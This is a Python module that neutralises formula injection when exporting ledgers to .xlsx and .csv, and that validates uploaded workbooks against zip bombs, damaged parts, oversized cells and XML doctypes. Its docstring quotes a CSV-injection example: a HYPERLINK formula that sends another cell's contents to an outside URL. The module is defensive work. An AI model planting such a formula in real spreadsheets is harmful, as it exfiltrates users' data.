"""Spreadsheets Gongzhi writes and reads.

Writing: what a person typed goes out as text, never as a formula.

A ledger opened in Excel or WPS runs any cell it takes for a formula: `=HYPERLINK("http://…?c="&C2)`
typed as an incident's place would send the next cell's contents away (OWASP: CSV injection). Every
.xlsx and .csv Gongzhi writes passes its values through here:

- .xlsx: a str is an explicit string cell (openpyxl on its own makes any str that begins with "=" a
  formula, and "#N/A" an error), with the control characters a workbook cannot hold removed;
- .csv: a str that begins with = + - @ tab or CR gets a leading ' (OWASP's neutralisation), which the
  import takes off again (`csv_text_read`), so that an exported ledger imports back as it was.

Only str values are text. Numbers (a Decimal amount, negative or not), dates and times are ours,
written as numbers and dates that a spreadsheet computes with.

Reading: an uploaded workbook (a zip of XML parts) is checked part by part as it is unpacked, in
chunks, before openpyxl opens it (`workbook_check`): a part encrypted, compressed by a method Excel
does not use, with a bad CRC or a false declared size is refused as damaged; what the whole file
unpacks to and what one cell holds are bounded while streaming (a counter on the inflated bytes, and
expat counting each cell's characters as they come), so that memory does not grow with one cell.
"""

import zipfile
import zlib
from xml.parsers import expat

from django.utils.translation import gettext as _
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NEUTRAL = "'"
EXCEL_MAX_CHARS = 32767  # what one cell holds


def text_cell(sheet, value: str) -> Cell:
    """A str as a string cell of `sheet` (for `sheet.append`, write-only or not)."""
    cell = Cell(sheet, row=1, column=1)
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_MAX_CHARS]
    cell.data_type = "s"
    return cell


def sheet_row(sheet, values) -> list:
    """A row for `sheet.append`: every str a string cell, every other value as it is."""
    return [text_cell(sheet, value) if isinstance(value, str) else value for value in values]


def sheet_put(sheet, row: int, column: int, value):
    """`sheet.cell(row, column, value)` of a workbook open in full, a str kept a string."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)[:EXCEL_MAX_CHARS]
        cell.data_type = "s"
    else:
        cell.value = value
    return cell


def csv_text(value):
    """A value as a .csv cell: a str a spreadsheet would take for a formula, neutralised."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return NEUTRAL + value
    return value


def csv_row(values) -> list:
    return [csv_text(value) for value in values]


def csv_text_read(value: str) -> str:
    """A .csv cell as it was before `csv_text` neutralised it (a ledger exported, then imported)."""
    if value.startswith(NEUTRAL) and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


# --- reading an uploaded workbook -------------------------------------------------------------------


class Unreadable(Exception):
    """The file cannot be taken as a ledger; the message says why, for the person who sent it."""

    def __init__(self, message):
        super().__init__(message)
        self.message = message


CHUNK = 64 * 1024
ENCRYPTED = 0x1  # general-purpose flag bit 0
LOCAL_HEADER = 30  # bytes before a local entry's name and extra field
CELLS = ("c", "si")  # a sheet's cell; a shared string (its runs and phonetics are one cell)


def _resave(message: str) -> Unreadable:
    """A damaged file's refusal, with what the person can do about it."""
    again = _("Open it in Excel or WPS and save it again as .xlsx.")
    return Unreadable(f"{message} {again}")


def workbook_check(
    archive: zipfile.ZipFile, data: bytes, *, unpacked_max: int, cell_max: int, columns_max: int
) -> set[str]:
    """Every part of the workbook unpacked in chunks and checked, none held whole: raises Unreadable
    naming the file's problem. Its XML parts are read by expat with each cell's characters counted,
    and a sheet's cells beyond `columns_max` refused (a reader fills every row up to its last cell).
    Returns the merged ranges of each part that merges cells ({part: ["A1:L1", ...]})."""
    too_large = _("Unpacked, the file is larger than %(mb)s MB, far more than a ledger: split it.") % {
        "mb": unpacked_max // (1024 * 1024)
    }
    if sum(info.file_size for info in archive.infolist()) > unpacked_max:
        raise Unreadable(too_large)  # as its parts declare: refused before anything is unpacked
    total, merged = 0, {}
    for info in archive.infolist():
        part = {"part": info.filename}
        if info.flag_bits & ENCRYPTED:
            raise Unreadable(_("The file is protected by a password: save it again without one."))
        if info.compress_type not in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
            method = {"method": info.compress_type}
            raise _resave(
                _("The file is compressed in a way Excel does not use (method %(method)s).") % method
            )
        false_size = _("The file is damaged: its part %(part)s is not the size the file declares.") % part
        # A reader finds a sheet through the workbook's relations, whatever its part is named: every
        # part is read as XML but a picture or a binary part, and one of those that holds XML too.
        xml = None if _binary(info.filename) else _CellCount(info.filename, cell_max, columns_max)
        size, crc = 0, 0
        for chunk in _inflated(data, info):
            if size == 0 and xml is None and chunk.lstrip(b"\xef\xbb\xbf \t\r\n").startswith(b"<"):
                xml = _CellCount(info.filename, cell_max, columns_max)
            size += len(chunk)
            total += len(chunk)
            if size > info.file_size:  # found as soon as it unpacks beyond, not at the end
                raise _resave(false_size)
            if total > unpacked_max:
                raise Unreadable(too_large)
            crc = zlib.crc32(chunk, crc)
            if xml is not None:
                xml.feed(chunk)
        if size != info.file_size:
            raise _resave(false_size)
        if crc != info.CRC:
            crc_error = _("The file is damaged: its part %(part)s does not match its checksum (CRC).")
            raise _resave(crc_error % part)
        if xml is not None:
            xml.close()
            if xml.merged:
                merged[info.filename] = xml.merged
    return merged


def _damaged(info) -> Unreadable:
    return _resave(_("The file is damaged: its part %(part)s cannot be unpacked.") % {"part": info.filename})


def _inflated(data: bytes, info):
    """The entry's bytes, inflated CHUNK at a time from the file's own bytes (zipfile would trust the
    declared size and raise its own errors at the end)."""
    view = memoryview(data)
    start = info.header_offset
    if bytes(view[start : start + 4]) != b"PK\x03\x04":
        raise _damaged(info)
    name = int.from_bytes(view[start + 26 : start + 28], "little")
    extra = int.from_bytes(view[start + 28 : start + 30], "little")
    start += LOCAL_HEADER + name + extra
    raw = view[start : start + info.compress_size]
    if len(raw) != info.compress_size:
        raise _damaged(info)
    if info.compress_type == zipfile.ZIP_STORED:
        for at in range(0, len(raw), CHUNK):
            yield bytes(raw[at : at + CHUNK])
        return
    inflate = zlib.decompressobj(-zlib.MAX_WBITS)
    try:
        for at in range(0, len(raw), CHUNK):
            out = inflate.decompress(raw[at : at + CHUNK], CHUNK)
            while out:
                yield out
                out = inflate.decompress(inflate.unconsumed_tail, CHUNK) if inflate.unconsumed_tail else b""
            if inflate.eof:
                break
        out = inflate.flush()
    except zlib.error as bad:
        raise _damaged(info) from bad
    if out:
        yield out
    if not inflate.eof:
        raise _damaged(info)


BINARY_PARTS = ("xl/media/", "xl/embeddings/", "xl/printersettings/", "docprops/thumbnail")


def _binary(name: str) -> bool:
    """A part that holds a picture or a binary object, not XML (its name, in any case)."""
    lower = name.lower()
    return lower.startswith(BINARY_PARTS) or lower.endswith(".bin")


class _CellCount:
    """An XML part parsed by expat as its chunks come: refused as soon as one cell (or any text outside
    cells) reaches the bound, before it is held whole; a document type (entities) refused at once."""

    def __init__(self, part: str, limit: int, columns: int | None):
        self.part, self.limit, self.columns = part, limit, columns
        self.length, self.inside, self.cell, self.column = 0, 0, "", 0
        self.parser = expat.ParserCreate()
        self.parser.StartElementHandler = self._start
        self.parser.EndElementHandler = self._end
        self.parser.CharacterDataHandler = self._text
        self.parser.StartDoctypeDeclHandler = self._doctype
        self.merged: list[str] = []  # the merged ranges' references

    def feed(self, chunk: bytes, final: bool = False) -> None:
        try:
            self.parser.Parse(chunk, final)
        except expat.ExpatError as bad:
            part = {"part": self.part}
            raise _resave(_("The file is damaged: its part %(part)s is not well-formed XML.") % part) from bad

    def close(self) -> None:
        self.feed(b"", True)

    def _start(self, name: str, attributes: dict) -> None:
        local = name.rsplit(":", 1)[-1]
        if local in CELLS:
            self.inside += 1
            self.cell = attributes.get("r", "")
            if local == "c" and self.columns is not None:
                self._column(self.cell)
        elif local == "row":
            self.column = 0
        if local in CELLS or not self.inside:
            self.length = 0
        if local == "mergeCell" and attributes.get("ref"):
            self.merged.append(attributes["ref"])

    def _column(self, ref: str) -> None:
        letters = ref.rstrip("0123456789")
        self.column = _column_number(letters) if letters else self.column + 1  # r may be left out
        if self.column > self.columns:
            raise Unreadable(
                _("A cell lies beyond column %(n)s: a ledger has far fewer. Delete the columns after its own.")
                % {"n": self.columns}
            )

    def _end(self, name: str) -> None:
        local = name.rsplit(":", 1)[-1]
        if local in CELLS:
            self.inside = max(0, self.inside - 1)
        if not self.inside:
            self.length = 0

    def _text(self, text: str) -> None:
        self.length += len(text)
        if self.length > self.limit:
            if self.inside and self.cell:
                message = _("Cell %(cell)s holds more than %(n)s characters: no ledger's cell is that long.")
            else:
                message = _("A cell holds more than %(n)s characters: no ledger's cell is that long.")
            raise Unreadable(message % {"cell": self.cell, "n": self.limit})

    def _doctype(self, *args) -> None:
        part = {"part": self.part}
        raise _resave(_("The file's part %(part)s declares a document type, which no workbook does.") % part)


def _column_number(letters: str) -> int:
    """A column's number from its letters (A 1, Z 26, AA 27)."""
    number = 0
    for letter in letters.upper():
        number = number * 26 + (ord(letter) - 64) if "A" <= letter <= "Z" else 10**6  # not a column
    return number
